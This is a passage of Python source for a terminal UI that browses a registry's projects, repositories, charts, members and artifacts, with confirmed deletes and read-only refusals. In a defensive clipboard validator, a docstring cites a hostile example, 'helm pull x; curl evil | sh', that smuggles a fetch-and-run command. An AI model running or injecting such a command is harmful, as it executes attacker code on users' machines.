"""Registry projects, one project's repositories, charts and members, a chart's detail and a repository's artifacts.

Deletes are confirmed in a dialog naming the chart or repository and its
project, and are hidden and refused on read-only profiles.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any, ClassVar

from rich.text import Text
from textual import on, work
from textual.app import ComposeResult
from textual.binding import Binding
from textual.containers import Horizontal, Vertical
from textual.widget import Widget
from textual.widgets import DataTable, Input, Label, Static, TabbedContent, TabPane, Tabs
from textual.worker import Worker

from flextui import kinds
from flextui.api.errors import ApiError, NotFound
from flextui.api.paging import Page, Pager, pages_of, served_notes
from flextui.api.registry import (
    ARTIFACTS_MAX_PAGE_SIZE,
    MEMBERS_MAX_PAGE_SIZE,
    PROJECTS_MAX_PAGE_SIZE,
    Artifact,
    Chart,
    ChartDetail,
    Member,
    Project,
    ProjectDetail,
    Repository,
)
from flextui.kinds import Link
from flextui.query import split_repository
from flextui.render.text import clean, relative, shorten
from flextui.render.words import plural
from flextui.ui.appref import flex_app
from flextui.ui.hidden_keys import RefusedChoices
from flextui.ui.keyhint import bound_key
from flextui.ui.keyhint import hint as keyhint
from flextui.ui.keys import FlexModal
from flextui.ui.screens.base import NOT_LOADED, AreaScreen, on_this_page, sorted_here
from flextui.ui.screens.pages_ahead import Ahead
from flextui.ui.screens.registry.common import (
    PagedRegistryScreen,
    RegistryMixin,
    block,
    capped_page_size,
    cell,
    day_of,
    filter_note,
    human_size,
    ms_of,
    page_parts,
    problem_note,
    short_digest,
    sorted_note,
    turn_page,
    when,
)
from flextui.ui.widgets.dialogs import ConfirmScreen, MessageScreen
from flextui.ui.widgets.forms import FieldSpec, FormScreen
from flextui.ui.widgets.row_table import RowTable
from flextui.ui.widgets.table import ResourceTable


class ProjectsScreen(PagedRegistryScreen):
    """The registry's projects, alphabetically, a page at a time ("page 3 of 41")."""

    KIND = "projects"
    MAX_PAGE_SIZE = PROJECTS_MAX_PAGE_SIZE
    ITEM = NOUN = "project"

    BINDINGS = [
        Binding("o", "open_by_name", "Open…", id="projects.open"),
        Binding("c", "copy_name", "Copy name", show=False, id="projects.copy"),
        Binding("right_square_bracket", "page(1)", "Next page", show=False, id="projects.next_page"),
        Binding("left_square_bracket", "page(-1)", "Previous page", show=False, id="projects.prev_page"),
        Binding("ctrl+r", "reload", "Refresh from the server", show=False, id="projects.reload"),
    ]

    def __init__(self) -> None:
        super().__init__()
        self.stale = False  # set after a delete elsewhere: the counts changed

    @property
    def projects(self) -> list[Project]:
        return self.items

    def on_screen_resume(self) -> None:  # AreaScreen's handler runs too (Textual dispatches along the MRO)
        if self.stale:
            self.stale = False
            self._start_load(force=True)

    def fetch(self, *, force: bool) -> AsyncIterator[Page[Project]]:
        return self.registry.list_projects(self.page, self.page_size, force=force)

    def _row(self, p: Project) -> dict[str, Any]:
        return {
            "name": p.name,
            "repo_count": str(p.repo_count),
            "chart_count": str(p.chart_count),
            "creation_time": day_of(p.created),
            "update_time": when(p.updated),
            "project": p,
        }

    def _cell(self, row: dict[str, Any], key: str) -> Text:
        p: Project = row["project"]
        if key in ("repo_count", "chart_count"):
            n = p.repo_count if key == "repo_count" else p.chart_count
            return cell(n, right=True, style="dim" if n == 0 else "")
        if key == "update_time":
            if p.updated is None:
                return Text("")
            return cell(f"{day_of(p.updated)} · {relative(ms_of(p.updated), self.ctx.now_ms())}")
        return cell(row.get(key))

    def pager_notes(self, table: ResourceTable) -> list[str]:
        parts = [sorted_note(table, self.many_pages(), "sorted by name")]
        if table.filter_text:
            parts.append(
                filter_note(table, f"of {len(self.projects)}" + (" on this page · enter searches every page" if self.many_pages() else ""))
            )
        return parts

    def every_pager(self, force: bool) -> Pager[Project]:
        return self.registry.iter_projects(PROJECTS_MAX_PAGE_SIZE, force=force)

    # -- actions -------------------------------------------------------------------------------

    def open_item(self, project: Project) -> None:
        self.app.push_screen(ProjectScreen(project.name))

    def action_open_by_name(self) -> None:
        if self.registry_problem():
            return
        fields = [
            FieldSpec(
                "name",
                "Project name",
                placeholder="e.g. hello-world-dp",
                hint="its download package ID; opens the project directly, without paging to it",
            )
        ]

        def build(values: dict[str, Any]) -> str:
            name = values["name"].strip()
            if not name:
                raise ValueError("name: give the project's name")
            return name

        async def send(name: str) -> str:
            # Asked before the form closes: a name that is no project is said at the field, with the name still there
            # to correct (the project screen opened on it said "not found" twice, and the name typed was gone).
            try:
                await self.registry.get_project(name)
            except NotFound:
                raise NotFound(f"no project is named {name!r} (its download package ID)", status=404, field="name") from None
            return name

        def done(name: str | None) -> None:
            if name:
                self.app.push_screen(ProjectScreen(name))

        self.app.push_screen(FormScreen("Open a project", fields, build, send, submit_label="Open"), done)

    def action_copy_name(self) -> None:
        project = self.selected()
        if project is not None:
            flex_app(self).copy_text(project.name, f"project name {project.name}")


TABS = ("repositories", "charts", "members")


TAB_TABLES = {"repositories": "#repos-table", "charts": "#charts-table", "members": "#members-table"}

SUMMARY_PART = 80
"""Characters of a project's name shown in its summary (its version and tenant a quarter, its producer half of it)."""


class ProjectScreen(RegistryMixin, AreaScreen):
    """A project: its package summary and tabs for repositories, charts and members."""

    HOME = ProjectsScreen
    KIND = "repositories"
    ACTION_CAPABILITY: ClassVar[dict[str, str]] = {"delete": "delete"}
    """Of the tab's kind (`kind`): repositories and charts can be deleted, members cannot."""

    BINDINGS = [
        Binding("greater_than_sign", "next_tab(1)", "Next tab", id="project.next_tab"),
        Binding("less_than_sign", "next_tab(-1)", "Previous tab", show=False, id="project.prev_tab"),
        Binding("d,delete", "delete", "Delete", id="project.delete"),
        Binding("u", "member_query", "User…", id="project.member_query"),
        Binding("c", "copy_name", "Copy", id="project.copy"),
        Binding("1", "tab('repositories')", "Repositories tab", show=False, id="project.tab_repositories"),
        Binding("2", "tab('charts')", "Charts tab", show=False, id="project.tab_charts"),
        Binding("3", "tab('members')", "Members tab", show=False, id="project.tab_members"),
        Binding("right_square_bracket", "page(1)", "Next page of members", show=False, id="project.next_page"),
        Binding("left_square_bracket", "page(-1)", "Previous page of members", show=False, id="project.prev_page"),
        Binding("ctrl+r", "reload", "Refresh from the server", show=False, id="project.reload"),
    ]

    DEFAULT_CSS = """
    ProjectScreen #project-summary { padding: 0 1; height: auto; max-height: 4; color: $text-muted; }
    ProjectScreen TabbedContent { height: 1fr; }
    ProjectScreen TabPane { padding: 0; height: 1fr; }
    """

    def __init__(self, project: str, tab: str = "repositories") -> None:
        super().__init__()
        self.project = project.strip()
        self.initial_tab = tab if tab in TABS else "repositories"
        self.detail: ProjectDetail | None = None
        self.member_page = 1
        self.member_total: int | None = None
        self.member_served: int | None = None
        """The members' page size as the server answers it (`Page.size`): their pages are counted by it."""
        self.members_whole = False
        """The server answered every member at once (`Page.whole`): one page."""
        self.member_ahead = Ahead()
        """What is known of the members' pages after the one shown when the server gives no total."""
        self.member_shown: int | None = None  # the members' page whose rows are shown
        self._members_loading: Worker[Any] | None = None
        self.members: list[Member] = []
        self.member_user: str | None = None
        self._labels_grew = False
        """A tab's label changed since the last layout (`_underline_after_layout`)."""

    @classmethod
    def for_kind(cls, kind: kinds.Kind | None, argument: str | None) -> ProjectScreen:
        tab = kind.id if kind is not None and kind.id in TABS else "repositories"
        return cls(argument or "", tab)

    # -- chrome -------------------------------------------------------------------------------

    @property
    def tab(self) -> str:
        try:
            active = self.query_one(TabbedContent).active
        except Exception:
            return self.initial_tab
        return active if active in TABS else self.initial_tab

    @property
    def kind(self) -> kinds.Kind:
        return kinds.get(self.tab)

    def reopen_as(self) -> tuple[str, str | None]:
        """The tab shown and the project: a profile switch opened a project screen with no project."""
        return self.tab, self.project or None

    @property
    def area_title(self) -> str:
        return f"Project {self.project}"

    @property
    def member_page_size(self) -> int:
        """The members' page size asked for (the server may answer another: `member_size`)."""
        return capped_page_size(self.ctx, MEMBERS_MAX_PAGE_SIZE)

    @property
    def member_size(self) -> int:
        """The members' page size as the server answers it (the size asked for until it has answered)."""
        return self.member_served or self.member_page_size

    def compose_body(self) -> ComposeResult:
        yield Static(Text(f"Project {clean(self.project)} · loading…"), id="project-summary", classes="reg-body")
        with TabbedContent(initial=self.initial_tab, classes="reg-body"):
            with TabPane("Repositories", id="repositories"):
                yield Label("", id="repos-pager", classes="pager")
                yield ResourceTable(REPO_COLUMNS, cell=self._repo_cell, id="repos-table")
            with TabPane("Charts", id="charts"):
                yield Label("", id="charts-pager", classes="pager")
                yield ResourceTable(CHART_COLUMNS, cell=self._chart_cell, id="charts-table")
            with TabPane("Members", id="members"):
                with Horizontal(classes="toolbar", id="members-bar"):
                    yield Label("User")
                    yield Input(
                        placeholder="u: e-mail, enter asks the registry for this member; empty lists all", id="q-member", compact=True
                    )
                yield Label("", id="members-pager", classes="pager")
                yield ResourceTable(MEMBER_COLUMNS, cell=self._member_cell, row_key="entity_name", id="members-table")
        yield problem_note()

    def missing_argument(self) -> str | None:
        return None if self.project else "give a project: :charts PROJECT, :members PROJECT or :repos PROJECT"

    def on_mount(self) -> None:
        if not self.ready():
            return
        self.screen_layout_refresh_signal.subscribe(self, self._underline_after_layout)
        self._focus_table()
        self._load_detail(force=False)
        self._load_members(force=False)

    def show_kind(self, kind: kinds.Kind) -> None:
        if kind.id in TABS:
            self.action_tab(kind.id)

    def action_next_tab(self, delta: int) -> None:
        self.action_tab(TABS[(TABS.index(self.tab) + delta) % len(TABS)])

    def action_tab(self, tab: str) -> None:
        if tab in TABS:
            self.query_one(TabbedContent).active = tab
            self._focus_table()
            self.refresh_bindings()

    @on(TabbedContent.TabActivated)
    def _tab_changed(self, event: TabbedContent.TabActivated) -> None:
        self.refresh_bindings()
        # A click or arrow on the tab strip hands the keys to the tab's table; the tab activated
        # while the screen is built (or a count put in a tab's label) must not take them from the `:` bar.
        if isinstance(self.focused, Tabs):
            self._focus_table()

    def _focus_table(self) -> None:
        self.give_keys(self.current_table())

    def current_table(self) -> ResourceTable:
        return self.query_one(TAB_TABLES[self.tab], ResourceTable)

    def raw_record(self) -> Any | None:
        row = self.current_table().current_row()
        if not row:
            return None
        return next((row[key] for key in ("repo", "chart", "member") if key in row), None)

    def check_action(self, action: str, parameters: tuple[object, ...]) -> bool | None:
        if action == "delete":  # the tab's kind and the profile decide (AreaScreen), then there must be a row
            offered = super().check_action(action, parameters)
            return offered and (not self.is_mounted or self.current_table().current_row() is not None)
        if action == "page":
            return True if self.tab == "members" else None
        if action == "member_query":
            return self.tab == "members"
        return super().check_action(action, parameters)

    def why_not(self, action: str, description: str) -> str | None:
        if action == "delete" and self.tab in ("repositories", "charts") and self.current_table().current_row() is None:
            if not self.ctx.read_only:
                return f"No {'repository' if self.tab == 'repositories' else 'chart'} here to delete"
        return super().why_not(action, description)

    def related_links(self) -> list[Link]:
        """j: a member's user in the users area (members are named by their e-mail, as FNO users are)."""
        if self.tab != "members":
            return []
        row = self.query_one("#members-table", ResourceTable).current_row()
        name = str(row.get("entity_name") or "") if row else ""
        return [Link(f"user {name}", "users", f"user={name}")] if "@" in name else []

    def action_member_query(self) -> None:
        """Focus the members' user field (the API's user_id filter)."""
        if self.tab == "members":
            self.query_one("#q-member", Input).focus()

    def apply_filter(self, text: str) -> None:
        self.current_table().set_filter(text)
        self._update_pagers()
        self.refresh_bindings()  # a filter that leaves no row leaves nothing to delete

    def action_reload(self) -> None:
        if self.registry_problem() or not self.project:
            return
        self._load_detail(force=True)
        self._load_members(force=True)

    # -- detail: repositories and charts --------------------------------------------------------------

    def _load_detail(self, *, force: bool) -> None:
        async def job() -> None:
            try:
                async for got in self.registry.project_detail(self.project, force=force):
                    self._show_detail(got.value, got.age)
            except NotFound as exc:
                self.query_one("#project-summary", Static).update(
                    Text(
                        f"✗ Project {clean(self.project)} not found ({clean(exc.message)}). Names are download package IDs, without the tenant prefix."
                    )
                )
                raise

        def failed(exc: BaseException) -> None:
            if isinstance(exc, NotFound) or self.detail is not None:
                return
            self.query_one("#project-summary", Static).update(Text(f"Project {clean(self.project)} · {NOT_LOADED}"))
            for pager in ("#repos-pager", "#charts-pager"):
                self.query_one(pager, Label).update(Text(NOT_LOADED))

        self.run_api(job, group="project-detail", doing=f"loading project {self.project}", failed=failed)

    def _show_detail(self, detail: ProjectDetail, age: float | None) -> None:
        self.detail = detail
        self.query_one("#project-summary", Static).update(self._summary(detail))
        self.query_one("#repos-table", ResourceTable).set_rows(
            [{"name": r.name, "short": r.short_name, "repo": r} for r in detail.repositories]
        )
        self.query_one("#charts-table", ResourceTable).set_rows([self._chart_row(c) for c in detail.charts])
        self.show_age(age)
        self._set_tab_label("repositories", "Repositories", len(detail.repositories))
        self._set_tab_label("charts", "Charts", len(detail.charts))
        self._update_pagers()
        self.refresh_bindings()  # `d` is offered on a tab with a row to delete

    def _set_tab_label(self, pane: str, title: str, count: int | None) -> None:
        label = Text(title) if count is None else Text(f"{title} ({count:,})")
        tabbed = self.query_one(TabbedContent)
        tabbed.get_tab(pane).label = label
        self._labels_grew = True

    def _underline_after_layout(self, _screen: object) -> None:
        """Tabs moves its underline when the active tab changes or Tabs resizes, not when a label grows ("Repositories (6)"
        kept the underline of "Repositories"). Once a layout has placed the new label (this screen's layout signal), the
        underline is moved under it; a refresh later, as before, was sometimes still before that layout (snapshots caught it)."""
        if self._labels_grew:
            self._labels_grew = False
            self.query_one(TabbedContent).query_one(Tabs)._highlight_active(False)

    def _summary(self, d: ProjectDetail) -> Text:
        """Two lines, each cut to what four rows hold at 80 columns: a long name must not push the tabs off."""
        now = self.ctx.now_ms()
        text = Text()
        text.append(shorten(clean(d.package_name or d.name), SUMMARY_PART), style="bold")
        if d.version:
            text.append(f" · version {shorten(clean(d.version), SUMMARY_PART // 4)}")
        if d.producer:
            text.append(f" · {shorten(clean(d.producer), SUMMARY_PART // 2)}")
        text.append("\n")
        parts = []
        if d.effective:
            parts.append(f"effective {day_of(d.effective)}")
        if d.expires:
            expired = ms_of(d.expires) is not None and (ms_of(d.expires) or 0) < now
            parts.append(f"expires {day_of(d.expires)}" + (" (expired)" if expired else f" ({relative(ms_of(d.expires), now)})"))
        else:
            parts.append("never expires")
        if d.tenant_id:
            parts.append(f"tenant {shorten(clean(d.tenant_id), SUMMARY_PART // 4)}")
        if d.available is not None:
            parts.append("available" if d.available else "not available")
        parts.extend(
            name
            for name, value in (("restricted", d.restricted), ("owner", d.owner), ("images & charts", d.supports_images_and_charts))
            if value
        )
        text.append(clean(" · ".join(parts)))
        return text

    def _chart_row(self, c: Chart) -> dict[str, Any]:
        latest = c.latest
        return {
            "name": c.name,
            "short": c.short_name,
            "version": (latest.version if latest else "") or "",
            "app_version": (latest.app_version if latest else "") or "",
            "created": when(latest.created) if latest else "",
            "description": (latest.description if latest else "") or "",
            "chart": c,
        }

    def _repo_cell(self, row: dict[str, Any], key: str) -> Text:
        repo: Repository = row["repo"]
        if key == "name":
            return cell(repo.short_name)
        if key == "artifact_count":
            return cell(f"{repo.artifact_count:,}", right=True)
        if key == "pull_count":
            return cell(f"{repo.pull_count:,}", right=True)
        if key == "public":
            return cell("public" if repo.public else "private")
        return cell(row.get(key))

    def _chart_cell(self, row: dict[str, Any], key: str) -> Text:
        if key == "name":
            return cell(row["short"])
        return cell(row.get(key))

    def _member_cell(self, row: dict[str, Any], key: str) -> Text:
        m: Member = row["member"]
        if key == "entity_type":
            return cell({"u": "user", "g": "group"}.get((m.entity_type or "").lower(), m.entity_type or ""))
        if key == "role_name":
            return cell(f"{m.role_name or ''}" + (f" ({m.role_id})" if m.role_id is not None else ""))
        return cell(row.get(key))

    def _update_pagers(self) -> None:
        d = self.detail
        repos = self.query_one("#repos-table", ResourceTable)
        charts = self.query_one("#charts-table", ResourceTable)
        if d is not None:
            pulls = sum(r.pull_count for r in d.repositories)
            artifacts = sum(r.artifact_count for r in d.repositories)
            text = (
                f"{plural(len(d.repositories), 'repository', 'repositories')} · {plural(artifacts, 'artifact')} · {plural(pulls, 'pull')}"
            )
            if not d.repositories:
                text += " · no images pushed yet"
            else:
                text += " · enter: artifacts"
            if repos.filter_text:
                text += " · " + filter_note(repos)
            self.query_one("#repos-pager", Label).update(Text(clean(text)))
            text = plural(len(d.charts), "chart")
            text += " · no charts pushed yet" if not d.charts else " · enter: versions and URLs"
            if charts.filter_text:
                text += " · " + filter_note(charts)
            self.query_one("#charts-pager", Label).update(Text(clean(text)))
        self._update_member_pager()

    # -- members ------------------------------------------------------------------------------------

    def _load_members(self, *, force: bool) -> None:
        user = self.member_user

        async def job() -> None:
            async for page in self.registry.members_page(self.project, self.member_page, self.member_page_size, user_id=user, force=force):
                if not self._show_members(page):
                    return

        def failed(exc: BaseException) -> None:
            self.member_ahead.wanted = 0
            self.query_one("#members-pager", Label).update(Text(f"members: {NOT_LOADED}"))

        self._members_loading = self.run_api(job, group="project-members", doing=f"loading members of {self.project}", failed=failed)

    def _show_members(self, page: Page[Member]) -> bool:
        """Show a page of members; False when it is not shown: an empty page past the one shown, without a total."""
        if page.total is None and not page.items and self.member_shown is not None and self.member_page > self.member_shown:
            asked, self.member_page = self.member_page, self.member_shown
            self.member_ahead.came_back_empty(asked, self.member_shown)
            self.say(f"Page {asked} is past the last page of members")
            self._update_member_pager()
            return False
        self.members = page.items
        self.member_total = page.total
        self.member_served, self.members_whole = page.size, page.whole
        if page.whole:
            self.member_page = 1  # every page is the whole list: that is the one page
        self.member_shown = self.member_page
        if self.member_ahead.settled(self.member_page, None if self.member_user else page.more):
            self.call_later(self._take_wanted_member)
        rows = [
            {"entity_name": m.entity_name, "role_name": m.role_name or "", "entity_type": m.entity_type or "", "member": m}
            for m in page.items
        ]
        self.query_one("#members-table", ResourceTable).set_rows(rows, keep_cursor=False)
        if self.tab == "members":
            self.show_age(page.age)
        if not self.member_user:
            self._set_tab_label("members", "Members", page.total)
        self._update_member_pager()
        return True

    def _take_wanted_member(self) -> None:
        """The `]`s pressed before it was known whether a next page of members exists: one page on, now that it is known."""
        if self.member_ahead.take_wanted():
            self.action_page(1)

    def _update_member_pager(self) -> None:
        table = self.query_one("#members-table", ResourceTable)
        if self.member_user:
            if self.members:
                text = f"user_id {self.member_user}: a member ({self.members[0].role_name or 'no role'}) · can pull from {self.project}"
            else:
                text = f"user_id {self.member_user}: not a member of {self.project} · cannot pull from it"
            text += " · clear the field and press enter for everyone"
        else:
            ahead = self.member_ahead
            text = " · ".join(page_parts(self.member_page, self.member_total, len(self.members), self.member_size, "member", ahead.last))
            if self.member_total is not None:
                text += " can pull"
            notes = served_notes(self.members_whole, self.member_served, self.member_page_size, self.member_total)
            if self.member_total is None and not self.members_whole:
                notes += ahead.notes(self.member_page)
            if here := sorted_here(table, self.many_member_pages()):
                notes.append(on_this_page(here))
            text = " · ".join([text, *notes])
            text += " · producers with the download-package permission, then entitled customers"
        if table.filter_text:
            text += " · " + filter_note(table)
        self.query_one("#members-pager", Label).update(Text(clean(text)))

    def filters_entered(self, field: Widget) -> bool:
        """Enter in the members' user field (AreaScreen has applied it): that member, or everyone when it is empty."""
        self.member_user = self.applied_text(self.query_one("#q-member", Input)).strip() or None
        self.member_page = 1
        self.member_shown = None
        self.member_ahead.reset()  # another listing
        self._load_members(force=False)
        self.query_one("#members-table", ResourceTable).focus()
        return True

    def many_member_pages(self) -> bool:
        """Whether the members listed have more than the page shown (so a `:sort` sorts part of them)."""
        if self.member_user or self.members_whole:
            return False
        if self.member_total is not None:
            return self.member_total > len(self.members) or self.member_page > 1
        return self.member_page > 1 or self.member_ahead.more is not False

    def rows_sorted(self, table: ResourceTable) -> None:
        self._update_pagers()

    def page_position(self) -> tuple[int, int | None] | None:
        """The members tab's (page, last page or None), counted from 1 (`:page N`); the other tabs have one page."""
        if self.tab != "members" or self.member_user:
            return None
        if self.members_whole:
            return self.member_page, 1
        last = pages_of(self.member_total, self.member_size) if self.member_total is not None else self.member_ahead.last
        return self.member_page, last

    def action_page(self, delta: int) -> None:
        if self.tab != "members" or self.member_user:
            return
        if self.members_whole and delta > 0:
            return
        target = turn_page(self.member_page, delta, self.member_total, self.member_size, self.member_ahead.last)
        loading = self.member_total is None and self._members_loading is not None and not self._members_loading.is_finished
        if target is not None and self.member_ahead.waits(delta, loading=loading, page=self.member_page, shown=self.member_shown):
            self._update_member_pager()
            return  # taken once it is known whether that page exists (`_take_wanted_member`)
        if target is not None:
            self.member_page = target
            self._load_members(force=False)

    # -- opening rows ------------------------------------------------------------------------------------

    @on(DataTable.RowSelected, "#repos-table")
    def _open_repository(self, event: DataTable.RowSelected) -> None:
        event.stop()
        row = self.query_one("#repos-table", ResourceTable).current_row()
        if row is not None:
            self.app.push_screen(ArtifactsScreen(self.project, row["repo"].name))

    @on(DataTable.RowSelected, "#charts-table")
    def _open_chart(self, event: DataTable.RowSelected) -> None:
        event.stop()
        row = self.query_one("#charts-table", ResourceTable).current_row()
        if row is not None:
            self.open_chart(row["chart"])

    def open_chart(self, chart: Chart) -> None:
        async def job() -> None:
            detail = await self.registry.get_chart(self.project, chart.name)
            refusal = self.why_not("delete", "delete") if self.ctx.read_only else None
            self.app.push_screen(ChartDetailScreen(self.project, detail, self.ctx.now_ms(), refusal), self._after_chart)

        self.run_api(job, group="chart-detail", doing=f"loading chart {chart.short_name}")

    def _after_chart(self, action: str | None) -> None:
        if action == "delete":
            self.call_later(self.action_delete)

    @on(DataTable.RowSelected, "#members-table")
    def _open_member(self, event: DataTable.RowSelected) -> None:
        event.stop()
        row = self.query_one("#members-table", ResourceTable).current_row()
        if row is None:
            return
        m: Member = row["member"]
        body = block(
            [
                ("Member", m.entity_name),
                ("Role", f"{m.role_name or ''} (role id {m.role_id})"),
                ("Type", {"u": "user", "g": "group"}.get((m.entity_type or "").lower(), m.entity_type or "")),
                ("Entity id", str(m.entity_id or "")),
                ("Member id", str(m.id or "")),
                ("Project id", str(m.project_id or "")),
                ("Project", self.project),
            ]
        )
        self.app.push_screen(MessageScreen(f"Member {m.entity_name}", body.plain))

    # -- actions -------------------------------------------------------------------------------------------

    def action_copy_name(self) -> None:
        row = self.current_table().current_row()
        if row is None:
            return
        if self.tab == "members":
            value = row["entity_name"]
        else:
            value = row["name"]
        flex_app(self).copy_text(value, value)

    @work(group="project-action")
    async def action_delete(self) -> None:
        tab = self.tab
        if tab not in ("repositories", "charts"):
            return
        if not self.kind.can("delete", read_only=self.ctx.read_only):
            self.report_error(ApiError("this profile is read-only: nothing can be deleted"), doing=f"deleting from {self.project}")
            return
        row = self.current_table().current_row()
        if row is None:
            return
        if tab == "repositories":
            repo: Repository = row["repo"]
            title = f"Delete repository {repo.short_name} of project {self.project}?"
            body = (
                f"Repository {repo.name} in project {self.project}: {plural(repo.artifact_count, 'artifact')} "
                f"(every image and tag), pulled {plural(repo.pull_count, 'time')}.\n"
                "Customers can no longer pull it. This cannot be undone."
            )
        else:
            c: Chart = row["chart"]
            latest = c.latest.version if c.latest else None
            title = f"Delete chart {c.short_name} of project {self.project}?"
            body = (
                f"Chart {c.name} in project {self.project}"
                + (f", latest version {latest}" if latest else "")
                + ": every version is removed.\nCustomers can no longer pull it. This cannot be undone."
            )
        if not await self.app.push_screen_wait(ConfirmScreen(title, body, "Delete")):
            self.say("Nothing deleted")
            return
        try:
            if tab == "repositories":
                await self.registry.delete_repository(self.project, row["repo"].name)
                what = f"Repository {row['repo'].short_name}"
            else:
                await self.registry.delete_chart(self.project, row["chart"].name)
                what = f"Chart {row['chart'].short_name}"
        except ApiError as exc:
            self.report_error(exc, doing=f"deleting from {self.project}")
            return
        self.say(f"{what} deleted from project {self.project}")
        self._load_detail(force=True)
        _mark_projects_stale(self.app)


def _mark_projects_stale(app: Any) -> None:
    """After a delete, the projects list's counts are out of date: reload it (forced) the next time it shows."""
    for screen in app.screen_stack:
        if isinstance(screen, ProjectsScreen):
            screen.stale = True


REPO_COLUMNS = kinds.get("repositories").columns


CHART_COLUMNS = kinds.get("charts").columns


MEMBER_COLUMNS = kinds.get("members").columns


class ChartDetailScreen(RefusedChoices, FlexModal[str | None]):
    """A chart's versions (newest first) with digest, created time and URLs; copy the helm command."""

    BINDINGS = [
        Binding("escape", "dismiss(None)", "Close", id="chart_detail.close"),
        Binding("c", "copy_command", "Copy helm command", id="chart_detail.copy"),
        Binding("d", "choose('delete')", "Delete chart", id="chart_detail.delete"),
    ]

    DEFAULT_CSS = """
    ChartDetailScreen { align: center middle; }
    ChartDetailScreen > Vertical { width: 110; max-width: 98%; height: 90%; border: thick $primary; background: $surface; padding: 0 1; }
    ChartDetailScreen #chart-title { text-style: bold; }
    ChartDetailScreen #chart-summary { height: auto; margin-bottom: 1; }
    ChartDetailScreen DataTable { height: 1fr; min-height: 4; }
    ChartDetailScreen #chart-version { height: auto; max-height: 6; margin-top: 1; }
    ChartDetailScreen #chart-hint { color: $text-muted; }
    """

    def __init__(self, project: str, chart: ChartDetail, now_ms: int, refusal: str | None = None) -> None:
        super().__init__()
        self.project = project
        self.chart = chart
        self.now_ms = now_ms
        self.refused = {"delete": refusal} if refusal else {}
        """Why `d` does not delete here (the project screen's `why_not`: a read-only profile), if it does not."""

    def _summary(self) -> Text:
        c = self.chart
        latest = c.versions[0] if c.versions else None
        text = Text()
        text.append("Project ", style="bold")
        text.append(clean(self.project))
        text.append(" · latest ", style="bold")
        text.append(clean(c.latest_version or "none"))
        text.append(f" · {plural(len(c.versions), 'version')}")
        if latest is not None:
            if latest.description or latest.home:
                text.append("\n" + clean(" · ".join(v for v in (latest.description, latest.home) if v)))
            maintainers = ", ".join(clean(m.get("name") or m.get("email") or "") for m in latest.maintainers)
            extra = [
                f"keywords: {', '.join(latest.keywords)}" if latest.keywords else "",
                f"maintainers: {maintainers}" if maintainers else "",
            ]
            if any(extra):
                text.append("\n" + clean(" · ".join(e for e in extra if e)), style="dim")
        return text

    def compose(self) -> ComposeResult:
        c = self.chart
        hint = " · ".join(  # as bound ([keys] moves them), less what is refused here
            part
            for part in (
                "↑↓ version",
                keyhint(
                    (bound_key(self, "chart_detail.copy"), "copy helm command"),
                ),
                "escape close",
                keyhint((bound_key(self, "chart_detail.delete"), "delete chart")),
            )
            if part
        )
        with Vertical():
            yield Label(Text(f"Chart {clean(c.name)}"), id="chart-title")
            yield Static(self._summary(), id="chart-summary")
            table = RowTable(cursor_type="row", zebra_stripes=True, id="versions")
            yield table
            yield Static("", id="chart-version")
            yield Label(hint, id="chart-hint")

    def on_mount(self) -> None:
        table = self.query_one(DataTable)
        table.add_column("Version", width=10)
        table.add_column("App version", width=12)
        table.add_column("Created", width=16)
        table.add_column("Age", width=9)
        table.add_column("Digest", width=12)
        for v in self.chart.versions:
            table.add_row(
                cell(v.version),
                cell(v.app_version),
                cell(when(v.created)),
                cell(relative(ms_of(v.created), self.now_ms)),
                cell((v.digest or "")[:12]),
            )
        table.focus()
        self._show_version(0)

    @on(DataTable.RowHighlighted)
    def _highlighted(self, event: DataTable.RowHighlighted) -> None:
        self._show_version(event.cursor_row)

    def _version(self, index: int | None = None) -> Any:
        versions = self.chart.versions
        if not versions:
            return None
        if index is None:
            index = self.query_one(DataTable).cursor_row
        return versions[max(0, min(index, len(versions) - 1))]

    def _show_version(self, index: int) -> None:
        v = self._version(index)
        if v is None:
            self.query_one("#chart-version", Static).update(Text("No versions."))
            return
        lines = [("Version", f"{v.version or ''} (app {v.app_version or '?'}), created {when(v.created)} UTC"), ("Digest", v.digest or "")]
        lines += [("URL", url) for url in v.urls] or [("URL", "")]
        if v.helm_command:
            lines.append(("Helm", v.helm_command))
        self.query_one("#chart-version", Static).update(block(lines, width=9))

    def action_copy_command(self) -> None:
        v = self._version()
        if v is None:
            return
        fallback = v.urls[0] if v.urls else v.digest or ""
        if v.helm_command and not pasteable(v.helm_command):
            flex_app(self).copy_text(fallback, "chart URL")
            self.notify(
                Text("The server's helm command holds characters a shell acts on (; | & $ ` < > quotes…): not copied; the chart URL was."),
                severity="warning",
            )
            return
        flex_app(self).copy_text(v.helm_command or fallback, "helm command" if v.helm_command else "chart URL")

    def action_choose(self, action: str) -> None:
        self.dismiss(action)


_PLAIN_COMMAND = re.compile(r"helm(?: [A-Za-z0-9@%+=:,./~_-]+)+")


def pasteable(command: str) -> bool:
    """Whether a helm command the server sent may go to the clipboard to be pasted into a shell: `helm` and words
    made of the characters of addresses, names and versions, nothing a shell acts on (`;`, `|`, `$(`, quotes, …).
    The registry's answer is the server's text: a hostile `helm pull x; curl evil | sh` must not be one paste away."""
    return _PLAIN_COMMAND.fullmatch(command) is not None


class ArtifactsScreen(PagedRegistryScreen):
    """A repository's artifacts (newest push first): tags, digest, size, push and pull times; paged."""

    HOME = ProjectsScreen
    KIND = "artifacts"
    MAX_PAGE_SIZE = ARTIFACTS_MAX_PAGE_SIZE
    ITEM = NOUN = "artifact"
    ROW_KEY = "digest"

    BINDINGS = [
        Binding("c", "copy_digest", "Copy digest", id="artifacts.copy"),
        Binding("right_square_bracket", "page(1)", "Next page", show=False, id="artifacts.next_page"),
        Binding("left_square_bracket", "page(-1)", "Previous page", show=False, id="artifacts.prev_page"),
        Binding("ctrl+r", "reload", "Refresh from the server", show=False, id="artifacts.reload"),
    ]

    def __init__(self, project: str, repository: str) -> None:
        super().__init__()
        self.project = project
        self.repository = repository

    def reopen_as(self) -> tuple[str, str | None]:
        return self.KIND, self.repository or None

    @classmethod
    def for_kind(cls, kind: kinds.Kind | None, argument: str | None) -> ArtifactsScreen:
        try:
            project, repository = split_repository(argument or "")
        except ValueError:
            return cls("", argument or "")
        return cls(project, f"{project}/{repository}" if not repository.startswith(project + "/") else repository)

    @property
    def artifacts(self) -> list[Artifact]:
        return self.items

    @property
    def short_name(self) -> str:
        return self.repository.split("/", 1)[1] if "/" in self.repository else self.repository

    @property
    def area_title(self) -> str:
        return f"Artifacts of {self.project}/{self.short_name}"

    @property
    def loading_what(self) -> str:
